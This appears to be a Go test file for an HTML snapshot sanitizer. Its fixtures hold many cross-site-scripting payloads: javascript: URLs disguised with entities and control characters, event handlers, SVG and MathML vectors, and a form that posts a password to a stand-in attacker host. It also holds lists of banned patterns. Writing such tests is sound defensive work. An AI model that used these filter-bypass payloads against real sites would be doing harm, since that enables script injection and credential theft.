package clip

import (
	"html"
	"regexp"
	"strings"
	"testing"
)

// snapshotCases are pages that try to smuggle active content into the
// snapshot. Each names what must not survive.
var snapshotCases = []struct {
	name   string
	body   string
	banned []string // after unescaping and removing white space, lower case
	kept   []string // plain substrings that must survive
}{
	{"script", `<p>text</p><script>alert(1)</script><SCRIPT SRC="https://evil.example/x.js"></SCRIPT>`, []string{"<script", "alert(", "evil.example"}, []string{"text"}},
	{"event handlers", `<p onclick="alert(1)" onmouseover=alert(2)>hover</p><body onload="alert(3)"><img src="https://ok.example/a.png" onerror="alert(4)">`, []string{"onclick", "onmouseover", "onload", "onerror", "alert("}, []string{"hover", "https://ok.example/a.png"}},
	{"javascript link", `<a href="javascript:alert(1)">a</a>`, []string{"javascript:"}, []string{"a"}},
	{"javascript with entities", `<a href="&#106;&#97;vascript:alert(1)">b</a><a href="&#x6A;avascript&#58;alert(1)">c</a><a href="javascript&colon;alert(1)">d</a>`, []string{"javascript", "alert("}, nil},
	{"javascript with tab and newline", "<a href=\"java\tscript:alert(1)\">e</a><a href=\"java\nscript:alert(1)\">f</a><a href=\"java&#x09;script:alert(1)\">g</a><a href=\"java&#10;script:alert(1)\">h</a><a href=\" \x01javascript:alert(1)\">i</a>", []string{"javascript", "alert("}, nil},
	{"mixed case scheme", `<a href="JaVaScRiPt:alert(1)">j</a><a href="vbscript:msgbox(1)">k</a>`, []string{"javascript", "vbscript", "alert(", "msgbox"}, nil},
	{"data urls", `<a href="data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==">l</a><img src="data:image/svg+xml;base64,PHN2Zz48c2NyaXB0PmFsZXJ0KDEpPC9zY3JpcHQ+PC9zdmc+"><img src="DATA:text/html,x">`, []string{"data:", "phnjcmlwd", "phn2zz"}, nil},
	{"frames and plugins", `<iframe src="https://evil.example/"></iframe><frameset><frame src="https://evil.example/"></frameset><embed src="https://evil.example/x.swf"><object data="https://evil.example/x.swf"><param name=a value=b></object><applet code=x></applet>`, []string{"<iframe", "<frame", "<embed", "<object", "<applet", "evil.example"}, nil},
	{"forms", `<form action="https://evil.example/steal"><input name="password"><button formaction="https://evil.example/">Go</button><select><option>secret</option></select><textarea>draft</textarea></form>`, []string{"<form", "<input", "<button", "formaction", "evil.example", "<textarea"}, nil},
	{"svg with script", `<svg><script>alert(1)</script><a xlink:href="javascript:alert(2)"><text>x</text></a></svg><svg onload="alert(3)"></svg>`, []string{"<svg", "alert(", "xlink", "javascript"}, nil},
	{"svg foreignObject", `<svg><foreignObject><iframe src="javascript:alert(1)"></iframe><body onload="alert(2)"></body></foreignObject></svg>`, []string{"foreignobject", "<iframe", "alert(", "onload"}, nil},
	{"math with href", `<math><maction actiontype="statusline" xlink:href="javascript:alert(1)">x</maction></math>`, []string{"javascript", "xlink", "alert("}, nil},
	{"meta refresh and base", `<meta http-equiv="refresh" content="0;url=javascript:alert(1)"><base href="javascript:alert(2)//"><link rel="stylesheet" href="https://evil.example/x.css">`, []string{"http-equiv=\"refresh", "<base", "javascript", "evil.example"}, nil},
	{"styles", `<style>body{background:url("https://evil.example/track.png")}</style><p style="background:url(javascript:alert(1))">styled</p>`, []string{"<style", "evil.example", "javascript", "background"}, []string{"styled"}},
	{"noscript and template", `<noscript><img src="https://evil.example/pixel.gif"></noscript><template><script>alert(1)</script></template>`, []string{"evil.example", "<template", "alert("}, nil},
	{"comments", `<!--[if IE]><script>alert(1)</script><![endif]--><p>after</p>`, []string{"<script", "alert(", "[if ie]"}, []string{"after"}},
	{"safe content survives", `<h2>Agenda</h2><ul><li>One</li></ul><blockquote>Quote</blockquote><table><tr><td>Cell</td></tr></table><a href="https://ok.example/page">link</a><a href="/relative">rel</a>`, nil, []string{"<h2>Agenda</h2>", "<li>One</li>", "<blockquote>Quote</blockquote>", "<td>Cell</td>", `href="https://ok.example/page"`, `href="https://site.example/relative"`}},
}

var whiteSpaceRe = regexp.MustCompile(`[\s\x00-\x1f]+`)

// normalizedForSearch undoes the disguises a browser would undo: entities
// (twice, for double encoding), white space and control characters, case.
func normalizedForSearch(s string) string {
	s = html.UnescapeString(html.UnescapeString(s))
	return strings.ToLower(whiteSpaceRe.ReplaceAllString(s, ""))
}

func TestSnapshotRemovesActiveContent(t *testing.T) {
	for _, tt := range snapshotCases {
		t.Run(tt.name, func(t *testing.T) {
			page := "<!DOCTYPE html><html><head><title>Snap</title></head><body>" + tt.body + "</body></html>"
			out := string(SanitizeHTML([]byte(page), "https://site.example/news/page.html"))
			norm := normalizedForSearch(out)
			for _, b := range tt.banned {
				if strings.Contains(norm, whiteSpaceRe.ReplaceAllString(b, "")) {
					t.Errorf("snapshot keeps %q:\n%s", b, out)
				}
			}
			for _, k := range tt.kept {
				if !strings.Contains(out, k) {
					t.Errorf("snapshot lost %q:\n%s", k, out)
				}
			}
			body := out[strings.Index(out, "<body>"):]
			if bad := activeContent([]byte(body)); bad != "" {
				t.Errorf("snapshot body keeps %s:\n%s", bad, out)
			}
			if !strings.Contains(out, `<meta charset="utf-8">`) || !strings.Contains(out, "Content-Security-Policy") {
				t.Errorf("snapshot head incomplete:\n%s", out)
			}
		})
	}
}

// The snapshot of an extracted article is sanitised the same way, declares
// UTF-8 whatever the page declared, and keeps the page's visible text.
func TestArticleSnapshot(t *testing.T) {
	page, err := LoadFile("testdata/pages/article-ru-1251.html")
	if err != nil {
		t.Fatal(err)
	}
	a, err := Extract(page, ExtractOptions{})
	if err != nil {
		t.Fatal(err)
	}
	snap := string(a.Snapshot)
	for _, want := range []string{`<meta charset="utf-8">`, `<html lang="ru">`, "Второй раунд переговоров", "Главная"} {
		if !strings.Contains(snap, want) {
			t.Errorf("snapshot lacks %q", want)
		}
	}
	if strings.Contains(strings.ToLower(snap), "windows-1251") {
		t.Error("snapshot still declares windows-1251")
	}

	page, err = LoadFile("testdata/pages/article-en.html")
	if err != nil {
		t.Fatal(err)
	}
	page.URL = "https://courier.example/world/geneva"
	a, err = Extract(page, ExtractOptions{})
	if err != nil {
		t.Fatal(err)
	}
	norm := normalizedForSearch(string(a.Snapshot))
	for _, banned := range []string{"<script", "onload", "javascript:", "<iframe", "ads.example", "tracker"} {
		if strings.Contains(norm, banned) {
			t.Errorf("snapshot keeps %q", banned)
		}
	}
	if !strings.Contains(string(a.Snapshot), `src="https://courier.example/images/palais.jpg"`) {
		t.Error("snapshot image URL not made absolute")
	}
}
